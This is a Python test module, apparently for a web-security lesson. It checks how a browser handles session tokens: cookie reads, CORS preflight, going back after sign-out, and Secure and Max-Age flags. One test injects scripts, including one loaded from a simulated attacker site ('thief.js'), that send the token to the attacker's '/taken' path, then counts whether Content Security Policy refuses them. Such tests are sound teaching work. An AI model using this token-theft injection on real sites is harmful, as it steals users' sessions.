"""What lesson 06 says that a browser does: for each row of its tables, what fills a cell."""

from collections.abc import Callable
from typing import Any

from tests.browser.conftest import WAIT_MS
from tests.browser.scenario import STEAL, Scenario

Behaviour = Callable[[Scenario], str]
BEHAVIOURS: dict[str, tuple[Behaviour, tuple[str, ...], dict[str, Any]]] = {}
"""By the row's first cell: the code, the flags that Chromium needs, the settings of hardened."""


def behaviour(tried: str, *flags: str, **settings: object) -> Callable[[Behaviour], Behaviour]:
    """Register a function under the first cell of its row."""

    def register(behaviour: Behaviour) -> Behaviour:
        BEHAVIOURS[tried] = (behaviour, flags, settings)
        return behaviour

    return register


@behaviour("A script reads `document.cookie`")
def script_reads_cookie(scenario: Scenario) -> str:
    scenario.sign_in()
    read: str = scenario.page.evaluate("document.cookie")
    return "the token" if scenario.kept_token()["value"] in read else "nothing"


@behaviour("Injected scripts send the token away")
def injected_scripts_send_token(scenario: Scenario) -> str:
    scenario.sign_in()
    scenario.page.evaluate(COUNT_REFUSALS)
    scenario.inject(textContent=STEAL.format(f"{scenario.attacker.other_site}/"))
    scenario.inject(src=f"{scenario.attacker.other_site}/thief.js")
    for _ in range(WAIT_MS // 50):
        refused: int = scenario.page.evaluate("refused")
        taken = [one for one in scenario.attacker.requests if one.path == "/taken"]
        if refused + len(taken) == 2:
            break
        scenario.page.wait_for_timeout(50)
    arrived = ["mytoken=" in one.query for one in taken]
    seen = f"{len(arrived)} came, {sum(arrived)} with the token, {refused} refused"
    return {(2, 0): "arrives", (0, 2): "blocked"}.get((sum(arrived), refused), seen)


COUNT_REFUSALS = """() => { window.refused = 0;
  document.addEventListener("securitypolicyviolation", () => window.refused++); }"""


@behaviour("A running script asks for `/temp`")
def running_script_requests_page(scenario: Scenario) -> str:
    scenario.sign_in()
    said: str = scenario.page.evaluate("fetch('/temp').then((a) => a.json()).then((a) => a.msg)")
    return said


@behaviour("A foreign script sends `Authorization`")
def foreign_script_sends_authorization(scenario: Scenario) -> str:
    scenario.page.goto(scenario.attacker.other_site)
    asked = "(url) => fetch(url, {headers: {Authorization: 'Bearer x'}}).catch(() => 0)"
    scenario.page.evaluate(asked, f"{scenario.server.url}/temp")
    methods = [one.method for one in scenario.server.requests if one.path == "/temp"]
    return "asks, and stays" if methods == ["OPTIONS"] else f"sends {' and '.join(methods)}"


@behaviour("Back, after signing out")
def back_after_signing_out(scenario: Scenario) -> str:
    scenario.sign_in()
    scenario.page.goto(f"{scenario.server.url}/temp")
    scenario.page.goto(scenario.server.url)
    scenario.page.get_by_role("button", name="Sign out", exact=True).click()
    scenario.page.get_by_text("You are signed out.").wait_for()
    scenario.page.go_back()
    scenario.page.get_by_text("Hello, alice.").or_(
        scenario.page.get_by_label("Password", exact=True)
    ).wait_for()
    return "Hello, alice." if scenario.page.get_by_text("Hello").is_visible() else "sign-in form"


@behaviour("`Secure`, plain HTTP, own machine", COOKIE_SECURE=True)
def secure_cookie_over_http(scenario: Scenario) -> str:
    scenario.sign_in()
    scenario.page.goto(f"{scenario.server.url}/temp")
    marked = "marked" if scenario.kept_token()["secure"] else "unmarked"
    return f"{marked}, {scenario.server.last_request('/temp').carried()}"


@behaviour("After `Max-Age`", ACCESS_SECONDS=2, REFRESH_SECONDS=2)
def after_max_age(scenario: Scenario) -> str:
    scenario.sign_in()
    limit = "no limit" if scenario.kept_token()["expires"] == -1 else "over"
    scenario.page.wait_for_timeout(2_500)
    scenario.page.goto(f"{scenario.server.url}/temp")
    return f"{limit}, {scenario.server.last_request('/temp').carried()}"
